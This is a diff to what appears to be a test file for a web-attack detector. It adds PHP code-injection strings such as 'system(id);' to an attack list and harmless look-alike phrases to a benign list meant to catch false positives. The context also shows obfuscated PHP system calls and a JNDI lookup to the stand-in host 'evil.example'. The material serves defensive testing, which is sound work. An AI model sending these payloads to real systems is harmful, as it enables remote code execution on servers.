@@ -54,6 +54,8 @@ ATTACKS = {
         "$f = 'sys'.'tem'; $f('id');",
         "('system')('id')",
         "allow_url_include=1",
+        "system(id);",
+        "<?=1;echo 1;",
     ],
     "bst-java-": [
         "${jndi:ldap://evil.example/a}",
@@ -94,6 +96,13 @@ BENIGN = [
     '{"name": "John", "tags": ["a", "b"]}',
     "<?xml version=\"1.0\"?><order><id>1</id></order>",
     "Price: $5 | Free shipping; time limited",
+    "Upload your file(s) here",
+    "the mail(s) you sent",
+    "see chmod(2) and mkdir(1)",
+    "Use printf(name) to print it",
+    "~+",
+    "~-",
+    "p4ss<?=!@#$%^&",
 ]
 
 
